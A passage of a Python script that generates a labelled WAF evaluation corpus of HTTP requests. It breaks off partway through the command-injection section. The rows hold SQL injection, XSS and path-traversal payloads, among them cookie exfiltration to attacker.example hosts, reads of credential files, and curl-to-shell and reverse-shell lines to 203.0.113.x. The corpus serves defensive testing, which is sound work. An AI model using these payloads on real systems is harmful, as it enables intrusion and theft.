#!/usr/bin/env python3
# ruff: noqa
"""Write tests/data/waf_unseen_fourth.jsonl: a fourth unseen set for the WAF (issue 17), source tag v13, written blind on 2026-12-04 by a helper who read none of the WAF's rules, tests, docs or corpus.

Row conventions
---------------
* One JSON object per line, keys in this order: id, label, category, method,
  path, query, headers, body, placement, payload, hard, source.
* id is "v13-a-<category>-NNNN" for attacks and "v13-b-<category>-NNNN" for
  benign rows; label is "attack" or "benign"; source is always "v13".
* path is the raw request path as sent on the wire (percent-encoded where
  needed); query is the raw query string without the leading "?" ("" if none).
* headers maps header name -> value (always Host, User-Agent and Accept;
  Content-Type whenever there is a body). Header and cookie values never carry
  raw CR/LF or non-ASCII characters; such characters are percent-encoded there.
* body is the raw body string ("" if none): JSON, x-www-form-urlencoded,
  multipart/form-data (boundary in Content-Type, CRLF line endings) or XML.
* placement is one of query, query_key, path, json, json_key, form, header,
  cookie, multipart, xml and says where the interesting value sits.
* payload is that value as the application receives it after the intended
  decoding (URL-decoding of query/form/path/cookie, JSON string unescaping).
  Header values are not decoded, so for header rows payload equals the header
  value. Inherently encoded evasions (double percent-encoding such as %252e,
  overlong UTF-8 such as %c0%af, IIS %u2216) keep the percent sequences
  literally, i.e. payload equals the wire form for those rows.
  For NoSQL operator objects / prototype-pollution objects placed in JSON the
  payload is the compact JSON text of the injected sub-document; for
  bracket-syntax keys (query_key / form keys) it is the decoded "key=value".
* hard is true for attacks that use an evasion (encoding, comments, case,
  whitespace substitutes, concatenation, look-alike Unicode, alternative IP
  notation ...) and for benign rows that are deliberately false-positive-prone.
* Everything is deterministic: all randomness comes from random.Random(404040).
"""

import json
import os
from urllib.parse import quote, quote_plus
import random

R = random.Random(404040)
ROWS = []
COUNTERS = {}

ATTACK_CATEGORIES = [
    "cmdi",
    "code_injection",
    "crlf",
    "ldapi",
    "log4shell",
    "mail_injection",
    "nosqli",
    "path_traversal",
    "php_injection",
    "prototype_pollution",
    "rfi",
    "sqli",
    "ssrf",
    "ssti",
    "xss",
    "xxe",
]
BENIGN_CATEGORIES = [
    "benign_api_json",
    "benign_base64",
    "benign_code",
    "benign_cookies",
    "benign_files",
    "benign_forms",
    "benign_graphql",
    "benign_headers",
    "benign_jwt",
    "benign_markdown",
    "benign_prose",
    "benign_richtext",
    "benign_search",
    "benign_urls",
]
PLACEMENTS = ["query", "query_key", "path", "json", "json_key", "form", "header", "cookie", "multipart", "xml"]

HOSTS = [
    "api.example.com",
    "shop.example.com",
    "app.example.org",
    "portal.example.net",
    "www.example.com",
    "cms.example.org",
    "files.example.net",
    "auth.example.com",
    "intranet.example.org",
    "store.example.net",
    "blog.example.com",
    "docs.example.org",
]
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
]
CLIENT_UAS = [
    "curl/8.5.0",
    "python-requests/2.31.0",
    "okhttp/4.12.0",
    "PostmanRuntime/7.37.3",
    "Go-http-client/1.1",
    "axios/1.6.8",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Dart/3.3 (dart:io)",
]
ACCEPT_LANG = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.8",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.9,en-US;q=0.6",
    "es-ES,es;q=0.9",
    "ja-JP,ja;q=0.9,en;q=0.5",
]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"


def pick(seq):
    return seq[R.randrange(len(seq))]


def rand_token(n, alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"):
    return "".join(alphabet[R.randrange(len(alphabet))] for _ in range(n))


def rand_hex(n):
    return rand_token(n, "0123456789abcdef")


def base_headers(kind=None, host=None):
    if kind is None:
        kind = "browser" if R.random() < 0.55 else "client"
    h = {"Host": host or pick(HOSTS)}
    if kind == "browser":
        h["User-Agent"] = pick(BROWSER_UAS)
        h["Accept"] = pick([ACCEPT_HTML, "application/json, text/plain, */*", "*/*"])
        h["Accept-Language"] = pick(ACCEPT_LANG)
    else:
        h["User-Agent"] = pick(CLIENT_UAS)
        h["Accept"] = pick(["application/json", "*/*", "application/json, */*;q=0.5"])
    return h


# ---------------------------------------------------------------- encoders


def pct_strict(s):
    return quote(s, safe="")


def pct_light(s):
    """What many clients/tools send: keep a few harmless punctuation raw."""
    return quote(s, safe="/:'(),*!@$;~")


def pct_all(s):
    """Every byte percent-encoded (including letters)."""
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def pct_mixed(s):
    """Randomly encode some characters, with random hex case."""
    out = []
    for ch in s:
        b = ch.encode("utf-8")
        must = not (ch.isascii() and (ch.isalnum() or ch in "-._~"))
        if must or R.random() < 0.35:
            for x in b:
                hx = "%02X" % x
                if R.random() < 0.5:
                    hx = hx.lower()
                out.append("%" + hx)
        else:
            out.append(ch)
    return "".join(out)


def pct_double(s):
    return quote(quote(s, safe=""), safe="")


def form_enc(s):
    return quote_plus(s, safe="")


def cookie_enc(s):
    return quote(s, safe="!#$&'()*+-./:<=>?@[]^_`{|}~")


def hdr_safe(s):
    out = []
    for ch in s:
        o = ord(ch)
        if o < 0x20 and ch != "\t" or o >= 0x7F:
            out.append(quote(ch, safe=""))
        else:
            out.append(ch)
    return "".join(out)


def wire_for(payload, enc):
    """Return (wire, payload_field) for URL-ish contexts."""
    if enc is None or enc == "light":
        return (pct_light(payload) if R.random() < 0.5 else pct_strict(payload)), payload
    if enc == "strict":
        return pct_strict(payload), payload
    if enc == "full":
        return pct_all(payload), payload
    if enc == "mixed":
        return pct_mixed(payload), payload
    if enc == "double":
        w = pct_double(payload)
        return w, w
    if enc == "literal":  # payload already contains its own percent sequences
        return payload, payload
    if enc == "plus":
        return form_enc(payload), payload
    if enc == "raw":  # sent as typed (only used for payloads without space/&/#)
        return payload, payload
    raise ValueError(enc)


def json_escape(s, mode=None):
    """JSON string literal for s; mode 'u_all' escapes every char, 'u_some' escapes punctuation."""
    if mode is None:
        return json.dumps(s, ensure_ascii=False)
    out = ['"']
    for ch in s:
        if mode == "u_all" or (mode == "u_some" and not ch.isalnum() and ch != " ") or ch in '"\\' or ord(ch) < 0x20:
            out.append("\\u%04x" % ord(ch) if R.random() < 0.5 else "\\u%04X" % ord(ch))
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


MARK = "@@PAYLOAD@@"
MARKK = "@@PAYLOADKEY@@"


def render_json(obj, payload, mode=None, raw=False, key=False):
    text = json.dumps(obj, ensure_ascii=False)
    if key:
        return text.replace(json.dumps(MARKK), json_escape(payload, mode), 1)
    rep = payload if raw else json_escape(payload, mode)
    return text.replace(json.dumps(MARK), rep, 1)


def multipart(parts):
    """parts: list of (name, value, filename or None, content_type or None)."""
    boundary = "----WebKitFormBoundary" + rand_token(16)
    lines = []
    for name, value, filename, ctype in parts:
        lines.append("--" + boundary)
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % filename
        lines.append(disp)
        if ctype:
            lines.append("Content-Type: " + ctype)
        lines.append("")
        lines.append(value)
    lines.append("--" + boundary + "--")
    lines.append("")
    return "\r\n".join(lines), "multipart/form-data; boundary=" + boundary


# ---------------------------------------------------------------- row writer


def add(label, category, method, path, query, headers, body, placement, payload, hard):
    assert label in ("attack", "benign")
    assert placement in PLACEMENTS, placement
    assert path.startswith("/"), path
    for k, v in headers.items():
        assert isinstance(v, str), (k, v)
        assert "\r" not in v and "\n" not in v and v.isascii(), (category, k, v)
    assert " " not in path and " " not in query, (category, path, query)
    assert "\n" not in path and "\n" not in query
    if body:
        assert any(k.lower() == "content-type" for k in headers), (category, headers)
    n = COUNTERS.get(category, 0) + 1
    COUNTERS[category] = n
    rid = "v13-%s-%s-%04d" % ("a" if label == "attack" else "b", category, n)
    ROWS.append(
        {
            "id": rid,
            "label": label,
            "category": category,
            "method": method,
            "path": path,
            "query": query,
            "headers": headers,
            "body": body,
            "placement": placement,
            "payload": payload,
            "hard": bool(hard),
            "source": "v13",
        }
    )


def request(
    placement,
    payload,
    *,
    name="q",
    path="/",
    enc=None,
    jmode=None,
    method=None,
    obj=None,
    raw=False,
    others=None,
    hname=None,
    cookies=None,
    kind=None,
    ctype=None,
    filename=None,
    fctype=None,
    mp_as_file=False,
    query="",
    rawwire=None,
    formkv=False,
):
    """Build (method, path, query, headers, body, payload_field) for a placement.

    For placement 'path' the `path` argument must contain '{}' where the
    encoded payload goes. For 'json'/'json_key', `obj` is a dict containing
    MARK (value) or MARKK (key); default {name: MARK}.
    """
    headers = base_headers(kind)
    body = ""
    pf = payload
    others = list(others or [])
    if placement == "query":
        w, pf = wire_for(payload, enc)
        parts = ["%s=%s" % (k, pct_strict(v)) for k, v in others]
        parts.insert(R.randrange(len(parts) + 1), "%s=%s" % (name, w))
        query = "&".join(parts)
        method = method or "GET"
    elif placement == "query_key":
        # payload is "key" or "key=value"; encode key and value separately
        if "=" in payload and enc != "literal":
            k, v = payload.split("=", 1)
            wk, _ = wire_for(k, enc)
            wv, _ = wire_for(v, enc if enc in ("full", "mixed", "double") else "strict")
            w = wk + "=" + wv
            if enc == "double":
                pf = w
        else:
            w, pf = wire_for(payload, enc)
            if "=" not in payload:
                w += "=" + pick(["1", "true", "x", ""])
        parts = ["%s=%s" % (k, pct_strict(v)) for k, v in others]
        parts.insert(R.randrange(len(parts) + 1), w)
        query = "&".join(parts)
        method = method or "GET"
    elif placement == "path":
        if enc is None:
            w, pf = pct_strict(payload), payload
        elif enc == "keep_slash":
            w, pf = quote(payload, safe="/"), payload
        else:
            w, pf = wire_for(payload, enc)
        path = path.replace("{}", w)
        method = method or "GET"
        q = ["%s=%s" % (k, pct_strict(v)) for k, v in others]
        query = query or "&".join(q)
    elif placement in ("json", "json_key"):
        if obj is None:
            obj = {MARKK: "1"} if placement == "json_key" else {name: MARK}
        body = render_json(
            obj,
            rawwire if rawwire is not None else payload,
            jmode,
            raw=raw or rawwire is not None,
            key=(placement == "json_key"),
        )
        headers["Content-Type"] = ctype or pick(["application/json", "application/json; charset=utf-8"])
        method = method or pick(["POST", "POST", "PUT", "PATCH"])
    elif placement == "form":
        if formkv:
            k, v = payload.split("=", 1)
            if enc in ("full", "mixed"):
                w = wire_for(k, enc)[0] + "=" + wire_for(v, enc)[0]
            elif enc == "strict":
                w = pct_strict(k) + "=" + form_enc(v)
            else:
                w = quote(k, safe="[]$._") + "=" + form_enc(v)
        else:
            w, pf = wire_for(payload, enc or "plus")
        parts = ["%s=%s" % (k, form_enc(v)) for k, v in others]
        parts.insert(R.randrange(len(parts) + 1), w if formkv else "%s=%s" % (name, w))
        body = "&".join(parts)
        headers["Content-Type"] = "application/x-www-form-urlencoded"
        method = method or "POST"
    elif placement == "multipart":
        parts = [(k, v, None, None) for k, v in others]
        if mp_as_file:
            parts.append((name, payload, filename or "upload.txt", fctype or "text/plain"))
        elif filename == "PAYLOAD":
            parts.append((name, "x" * R.randrange(4, 30), payload, fctype or "application/octet-stream"))
        else:
            parts.append((name, payload, None, None))
        body, ct = multipart(parts)
        headers["Content-Type"] = ct
        method = method or "POST"
    elif placement == "header":
        v = hdr_safe(payload)
        pf = v
        headers[hname] = v
        method = method or "GET"
    elif placement == "cookie":
        jar = list(cookies or [])
        w, pf = (cookie_enc(payload), payload) if enc is None else wire_for(payload, enc)
        jar.insert(R.randrange(len(jar) + 1), "%s=%s" % (name, w))
        headers["Cookie"] = "; ".join(jar)
        method = method or "GET"
    elif placement == "xml":
        body = payload
        headers["Content-Type"] = ctype or pick(
            ["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"]
        )
        method = method or "POST"
    else:
        raise ValueError(placement)
    return method, path, query, headers, body, pf


def attack(category, placement, payload, hard=False, **kw):
    m, p, q, h, b, pf = request(placement, payload, **kw)
    add("attack", category, m, p, q, h, b, placement, pf, hard)


def benign(category, placement, payload, hard=False, **kw):
    if placement in ("json", "json_key") and "method" not in kw:
        kw["method"] = "POST"
    m, p, q, h, b, pf = request(placement, payload, **kw)
    add("benign", category, m, p, q, h, b, placement, pf, hard)


def std_cookies():
    return pick(
        [
            ["_ga=GA1.2.%d.%d" % (R.randrange(10**8, 10**9), R.randrange(10**9, 2 * 10**9))],
            ["sessionid=" + rand_token(32, "abcdefghijklmnopqrstuvwxyz0123456789")],
            ["csrftoken=" + rand_token(32), "theme=dark"],
            ["lang=en-US", "JSESSIONID=" + rand_hex(32).upper()],
            [],
        ]
    )


# ================================================================ generators
GENERATORS = []


def gen(fn):
    GENERATORS.append(fn)
    return fn


def S(placement, payload, hard=False, **kw):
    return (placement, payload, hard, kw)


def json_obj(name, extra=None):
    obj = dict(extra or {})
    obj[name] = MARK
    return obj


def run(cat, ctx, specs):
    for placement, payload, hard, kw in specs:
        base = dict(pick(ctx[placement])) if placement in ctx else {}
        base.update(kw)
        extra = base.pop("extra", None)
        if "path" not in base:
            base["path"] = pick(["/", "/dashboard", "/api/v1/me", "/account/settings", "/home", "/api/v2/feed"])
        if placement == "json" and "obj" not in base:
            base["obj"] = json_obj(base.get("name", "q"), extra)
        attack(cat, placement, payload, hard, **base)


@gen
def gen_sqli():
    ctx = {
        "query": [
            {"name": "id", "path": "/api/products"},
            {"name": "q", "path": "/search", "others": [("page", "1")]},
            {"name": "category", "path": "/catalog/items", "others": [("limit", "20")]},
            {"name": "user_id", "path": "/api/v1/orders"},
            {"name": "sort", "path": "/api/v1/invoices", "others": [("dir", "asc")]},
        ],
        "form": [
            {"name": "username", "path": "/login", "others": [("password", "hunter2"), ("remember", "on")]},
            {"name": "email", "path": "/account/recover"},
            {"name": "coupon", "path": "/cart/apply-coupon", "others": [("cart_id", "88123")]},
        ],
        "json": [
            {"name": "username", "path": "/api/auth/login", "extra": {"password": "Summer2024!"}},
            {"name": "orderId", "path": "/api/v2/orders/lookup"},
            {"name": "filter", "path": "/api/reports/run", "extra": {"report": "sales", "format": "csv"}},
        ],
        "path": [
            {"path": "/api/users/{}"},
            {"path": "/products/{}/reviews"},
            {"path": "/blog/post/{}"},
        ],
        "header": [
            {"hname": "X-Forwarded-For"},
            {"hname": "User-Agent"},
            {"hname": "Referer"},
            {"hname": "X-Tenant-Id"},
        ],
        "cookie": [
            {"name": "session_user", "cookies": ["theme=light"]},
            {"name": "cart_id", "cookies": ["lang=en"]},
            {"name": "tracking", "cookies": []},
        ],
        "multipart": [
            {"name": "description", "path": "/api/upload", "others": [("album", "holiday")]},
        ],
        "query_key": [{"path": "/api/items", "others": [("page", "2")]}],
        "json_key": [{"path": "/api/v1/search"}],
    }
    specs = [
        S("query", "1 OR 1=1"),
        S("query", "' OR '1'='1' -- "),
        S("form", "admin'--"),
        S("form", "admin' #"),
        S("json", "x' OR 1=1 LIMIT 1 -- -"),
        S("query", "1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
        S("query", "1 AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))"),
        S("path", "7 AND updatexml(1,concat(0x7e,database()),1)"),
        S("query", "' UNION SELECT NULL,username,password FROM users--"),
        S(
            "query",
            "-1 UNION ALL SELECT 1,2,group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()-- -",
        ),
        S("json", "1;WAITFOR DELAY '0:0:5'--"),
        S("cookie", "1' AND SLEEP(5) AND 'a'='a"),
        S("query", "1) OR pg_sleep(5)--"),
        S("form", "x'; DROP TABLE sessions;--"),
        S("query", "1; EXEC xp_cmdshell('whoami')--"),
        S("query", "1 ORDER BY 10--", name="id"),
        S("query", "name ASC, (SELECT 1 FROM (SELECT SLEEP(5))x)", name="sort"),
        S("path", "1 GROUP BY 1,2,3 HAVING 1=1--"),
        S(
            "json",
            "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT version()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
        ),
        S("query", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--"),
        S("query", "1; EXEC master..xp_dirtree '\\\\oob.attacker.example\\share'--"),
        S(
            "json",
            "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.oob.attacker.example\\\\a'))-- ",
        ),
        S("form", "x' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
        S("query", "1 AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
        S("query", "' UNION SELECT sql,NULL FROM sqlite_master--"),
        S("header", "127.0.0.1' AND (SELECT 1 FROM pg_sleep(5))::text='1", hname="X-Forwarded-For"),
        S(
            "header",
            "Mozilla/5.0' AND 1=(SELECT COUNT(*) FROM users WHERE role='admin' AND SUBSTR(password,1,1)='a')-- ",
            hname="User-Agent",
        ),
        S("multipart", "nice'); INSERT INTO admins(login,pass) VALUES('eve','eve');--"),
        S("json_key", "name'='' OR 1=1 OR 'a"),
        S("query", "1;COPY (SELECT '') TO PROGRAM 'id'--"),
        # ---- evasions
        S("query", "1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users", True),
        S("query", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,@@version,3-- -", True),
        S("query", "1\tOR\t1=1", True),
        S("query", "-1 uNiOn SeLeCt NuLl,CoNcAt(user(),0x3a,version())--", True),
        S("form", "'||(SELECT'a'FROM dual)||'", True),
        S("query", "1 AND (SELECT CHAR(97)+CHAR(100)+CHAR(109)+CHAR(105)+CHAR(110))='admin'--", True),
        S("form", "'/**/or/**/1/**/=/**/1#", True),
        S("query", "1\nUNION\nSELECT\npassword\nFROM\nusers", True, enc="strict"),
        S("query", "' OR 1=1-- ", True, enc="double"),
        S("json", "' OR '1'='1", True, jmode="u_some"),
        S("query", "1 union select 1,2,3-- ", True, enc="full"),
        S("cookie", "1' OR '1'='1", True, enc="mixed"),
        S(
            "query",
            "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e,1 1.e)1.e)1.e)=70 or'1'='2",
            True,
        ),
        S("query", "1 AND $$a$$=$$a$$", True),
        S("path", "1\x0bUNION\x0bSELECT\x0b1,2", True, enc="strict"),
        S("json", "admin'/*!50000or*/'1'='1", True),
        S("query", "0x61646d696e' OR username LIKE 0x25-- ", True),
        S("query", "1 AND 1 IN (SELECT/*x*/password/*y*/FROM`users`)", True, name="id"),
        S("query_key", "id'||(SELECT/**/pg_sleep(5))||'=1", True),
    ]
    run("sqli", ctx, specs)


@gen
def gen_xss():
    ctx = {
        "query": [
            {"name": "q", "path": "/search"},
            {"name": "name", "path": "/greet"},
            {"name": "returnUrl", "path": "/account/login"},
            {"name": "msg", "path": "/notify", "others": [("type", "info")]},
            {"name": "callback", "path": "/api/jsonp"},
        ],
        "form": [
            {"name": "comment", "path": "/blog/comments", "others": [("post_id", "412"), ("author", "Sam")]},
            {"name": "display_name", "path": "/profile/update"},
        ],
        "json": [
            {"name": "bio", "path": "/api/v1/me", "extra": {"locale": "en"}},
            {"name": "title", "path": "/api/tickets", "extra": {"priority": "low", "body": "see title"}},
            {"name": "message", "path": "/api/chat/send", "extra": {"room": "general"}},
        ],
        "path": [{"path": "/u/{}"}, {"path": "/wiki/{}"}, {"path": "/search/{}"}],
        "header": [{"hname": "Referer"}, {"hname": "User-Agent"}, {"hname": "X-Forwarded-Host"}],
        "cookie": [{"name": "last_search", "cookies": ["theme=dark"]}, {"name": "username", "cookies": []}],
        "multipart": [
            {"name": "caption", "path": "/gallery/upload", "others": [("album", "2024")]},
            {"name": "avatar", "path": "/profile/avatar", "filename": "PAYLOAD", "fctype": "image/png"},
        ],
        "query_key": [{"path": "/landing", "others": [("utm_source", "mail")]}],
        "json_key": [{"path": "/api/prefs"}],
    }
    specs = [
        S("query", "<script>alert(document.domain)</script>"),
        S("query", '"><img src=x onerror=alert(1)>'),
        S("form", "<svg onload=alert(1)>"),
        S("query", "javascript:alert(document.cookie)", name="returnUrl"),
        S("json", "<body onload=alert('xss')>"),
        S("json", '<iframe src="javascript:alert(1)"></iframe>'),
        S("form", "<details open ontoggle=alert(1)>"),
        S("query", "<input autofocus onfocus=alert(1)>"),
        S("query", "';alert(String.fromCharCode(88,83,83));//", name="callback"),
        S("query", "</script><script>alert(1)</script>"),
        S("query", '" onmouseover="alert(1)" x="'),
        S("json", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        S("form", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
        S("json", '<video><source onerror="alert(1)"></video>'),
        S("form", "<img src=x onerror=\"fetch('https://collect.attacker.example/c?'+document.cookie)\">"),
        S("json", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>'),
        S("query", "<form action=javascript:alert(1)><input type=submit>"),
        S("json", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
        S("path", "<script>alert(1)</script>"),
        S("header", 'https://www.example.com/"><script>alert(1)</script>', hname="Referer"),
        S("header", "<img src=x onerror=alert(1)>", hname="User-Agent"),
        S("cookie", "<script>new Image().src='//attacker.example/?c='+document.cookie</script>"),
        S("multipart", '"><svg onload=alert(1)>.png', filename="PAYLOAD", name="avatar", fctype="image/png"),
        S(
            "multipart",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        ),
        S("query_key", "<img src=x onerror=alert(1)>"),
        S("json_key", "<svg/onload=alert(1)>"),
        S("query", "<marquee onstart=alert(1)>hi</marquee>"),
        S("form", "<x contenteditable onblur=alert(1)>lose focus"),
        # ---- evasions
        S(
            "query",
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
            True,
        ),
        S("form", '<a href="jav&#x09;ascript:alert(1)">x</a>', True),
        S("query", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", True),
        S("json", "<ScRiPt>prompt(1)</sCrIpT>", True),
        S("form", "<scr<script>ipt>alert(1)</scr</script>ipt>", True),
        S("query", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>", True),
        S("json", '<a href="&#106;avascript:alert(1)">x</a>', True),
        S("json", "<script>alert(1)</script>", True, jmode="u_some"),
        S("query", "<svg/onload=alert(1)>", True, enc="full"),
        S("query", "<script>alert(1)</script>", True, enc="double"),
        S("query", "java\tscript:alert(1)", True, name="returnUrl", enc="strict"),
        S("form", "<img src=x onerror\n=alert(1)>", True),
        S("query", "<svg onload=alert&lpar;1&rpar;>", True),
        S("json", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", True),
        S("query", "<svg onload=top['al'+'ert'](1)>", True, enc="mixed"),
        S("form", "<img src=1 onerror=\\u0061lert(1)>", True),
        S("query", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", True, name="callback"),
        S("json", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', True),
        S("cookie", '"><svg/onload=confirm`1`>', True),
    ]
    run("xss", ctx, specs)


@gen
def gen_path_traversal():
    ctx = {
        "query": [
            {"name": "file", "path": "/download"},
            {"name": "template", "path": "/render"},
            {"name": "page", "path": "/index.php"},
            {"name": "path", "path": "/api/v1/files/read", "others": [("raw", "1")]},
            {"name": "lang", "path": "/i18n/load"},
            {"name": "img", "path": "/thumbnail", "others": [("w", "200")]},
        ],
        "path": [
            {"path": "/static/{}"},
            {"path": "/files/{}"},
            {"path": "/assets/img/{}"},
            {"path": "/api/v1/documents/{}/content"},
        ],
        "form": [
            {"name": "attachment", "path": "/support/ticket/attach"},
            {"name": "logfile", "path": "/admin/logs/view"},
        ],
        "json": [
            {"name": "filePath", "path": "/api/export", "extra": {"format": "pdf"}},
            {"name": "theme", "path": "/api/settings/theme"},
            {"name": "key", "path": "/api/storage/get", "extra": {"bucket": "user-uploads"}},
        ],
        "cookie": [{"name": "lang", "cookies": ["sid=8f2a91c0"]}, {"name": "template", "cookies": []}],
        "header": [{"hname": "X-Original-URL"}, {"hname": "X-Rewrite-URL"}, {"hname": "X-Template"}],
        "multipart": [
            {"name": "file", "path": "/api/upload", "filename": "PAYLOAD", "fctype": "application/octet-stream"},
            {"name": "dest", "path": "/admin/backup/restore"},
        ],
    }
    specs = [
        S("query", "../../../etc/passwd"),
        S("query", "../../../../../../etc/shadow"),
        S("query", "..\\..\\..\\windows\\win.ini"),
        S("path", "../../../../etc/passwd", enc="keep_slash"),
        S("query", "/var/www/html/../../../etc/passwd"),
        S("query", "../../../../proc/self/environ"),
        S("json", "../../../../root/.ssh/id_rsa"),
        S("json", "../../.env"),
        S("form", "../../../config/database.yml"),
        S("query", "../WEB-INF/web.xml"),
        S("form", "../../../../var/log/apache2/access.log"),
        S("query", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
        S(
            "multipart",
            "../../../../var/www/html/shell.php",
            name="file",
            filename="PAYLOAD",
            fctype="application/x-php",
        ),
        S("multipart", "../../../../etc/cron.d/backup", name="dest"),
        S("query", "../../../../../etc/kubernetes/admin.conf"),
        S("json", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
        S("query", "../../../home/ubuntu/.aws/credentials"),
        S("cookie", "../../../../etc/passwd"),
        S("header", "/../../../../etc/passwd", hname="X-Original-URL"),
        S("query", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
        S("query", "../../../../../../../../../../../../../../etc/passwd"),
        S("path", "../../../../proc/self/cmdline", enc="keep_slash"),
        # ---- evasions
        S("query", "....//....//....//etc/passwd", True),
        S("query", "..%2f..%2f..%2fetc%2fpasswd", True, enc="double"),
        S("path", "../../../etc/passwd", True, enc="strict"),
        S("query", "../../../etc/passwd", True, enc="full"),
        S("path", "..%252f..%252f..%252fetc%252fpasswd", True, enc="literal"),
        S("query", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", True, enc="literal"),
        S("path", "..%c0%ae%c0%ae/..%c0%ae%c0%ae/etc/passwd", True, enc="literal"),
        S("query", "..%u2216..%u2216..%u2216windows%u2216win.ini", True, enc="literal"),
        S("path", "..;/..;/WEB-INF/web.xml", True, enc="keep_slash"),
        S("query", "/etc/passwd\x00.png", True),
        S("query", "....\\/....\\/....\\/etc/passwd", True),
        S("json", ".././.././.././etc/passwd", True),
        S("form", "..///..///..///etc/passwd", True),
        S("query", "%2e%2e/%2e%2e/%2e%2e/etc/group", True, enc="double"),
        S("json", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd", True),
        S("query", "..\\/..\\/..\\/boot.ini", True, enc="mixed"),
        S("json", "../../../etc/passwd", True, jmode="u_some"),
        S("cookie", "..%5c..%5c..%5cwindows%5cwin.ini", True, enc="double"),
        S("path", "/..\\../..\\../etc/hosts", True, enc="mixed"),
        S("header", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", True, hname="X-Rewrite-URL"),
    ]
    run("path_traversal", ctx, specs)


@gen
def gen_cmdi():
    ctx = {
        "query": [
            {"name": "host", "path": "/tools/ping"},
            {"name": "domain", "path": "/api/dns/lookup"},
            {"name": "ip", "path": "/cgi-bin/traceroute.cgi"},
            {"name": "file", "path": "/api/convert", "others": [("to", "pdf")]},
        ],
        "form": [
            {"name": "target", "path": "/admin/diagnostics", "others": [("count", "4")]},
            {"name": "filename", "path": "/api/archive/create"},
        ],
        "json": [
            {"name": "hostname", "path": "/api/network/check", "extra": {"timeout": 5}},
            {"name": "branch", "path": "/api/ci/build", "extra": {"repo": "web-frontend"}},
            {"name": "size", "path": "/api/images/resize", "extra": {"image": "cat.jpg"}},
        ],
        "header": [{"hname": "User-Agent"}, {"hname": "X-Forwarded-For"}, {"hname": "Referer"}],
        "cookie": [{"name": "tz", "cookies": ["sid=" + "77ac01be"]}],
        "multipart": [
            {"name": "file", "path": "/api/media/transcode", "filename": "PAYLOAD", "fctype": "video/mp4"},
            {"name": "options", "path": "/api/media/transcode"},
        ],
        "path": [{"path": "/api/repos/{}/archive"}, {"path": "/cgi-bin/status/{}"}],
    }
    specs = [
        S("query", "127.0.0.1; cat /etc/passwd"),
        S("query", "8.8.8.8 && id"),
        S("form", "example.com | whoami"),
        S("query", "`id`"),
        S("json", "$(curl -s http://203.0.113.7/x.sh|sh)"),
        S("form", "x; wget -qO- http://203.0.113.7/a | bash"),
        S("query", "1.1.1.1 || ping -c 10 127.0.0.1"),
        S("json", "main; sleep 10 #"),
        S("query", "a & nslookup $(whoami).oob.attacker.example &"),
        S("form", "127.0.0.1; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        S("json", "x;nc -e /bin/sh 203.0.113.9 4444"),
